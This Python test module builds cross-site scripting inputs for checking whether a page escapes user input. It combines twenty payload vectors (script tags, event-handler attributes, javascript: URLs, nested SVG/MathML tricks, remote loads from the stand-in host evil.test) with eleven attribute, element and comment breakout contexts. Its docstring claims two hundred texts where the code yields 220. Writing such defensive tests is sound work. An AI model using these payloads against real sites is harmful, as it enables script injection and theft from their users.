"""Two hundred texts that run as a script where a page does not escape what people typed.

Twenty vectors in eleven surroundings that would end an attribute, an element or a comment around
them; collected from the kinds of the OWASP cheat sheet on filter evasion, written for this test.
"""

from html.parser import HTMLParser
from typing import Final

VECTORS: Final = (
    "<script>hit()</script>",
    "<ScRiPt/x>hit()</sCrIpT>",
    "<script src=//evil.test/x.js></script>",
    "<img src=x onerror=hit()>",
    "<img/src=`x`onerror=hit()>",
    "<svg onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><a xlink:href=javascript:hit()>x</a></svg>",
    "<body onpageshow=hit()>",
    "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<video><source onerror=hit()></video>",
    "<a href=javascript:hit()>x</a>",
    "<form action=javascript:hit()><button>x</form>",
    "<style>@import '//evil.test/x.css'</style>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<base href=//evil.test/>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "{{hit()}}{% raw %}${hit()}",
)
SURROUNDINGS: Final = (
    "{}", '">{}', "'>{}", '" autofocus onfocus=hit() x="{}', "</textarea>{}", "</title>{}",
    "</script>{}", "--><!-- -->{}", "]]>{}", "%3C{}", "&lt;\u2028{}",
)  # fmt: skip
TEXTS: Final = tuple(around.format(vector) for around in SURROUNDINGS for vector in VECTORS)


class Skeleton(HTMLParser):
    """Elements and the names of their attributes, in order."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.bones: list[tuple[str, tuple[str, ...]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.bones.append((tag, tuple(name for name, _ in attrs)))


def skeleton(html: str) -> list[tuple[str, tuple[str, ...]]]:
    return Skeleton(html).bones


def harmless(text: str) -> str:
    return "z" * len(text)
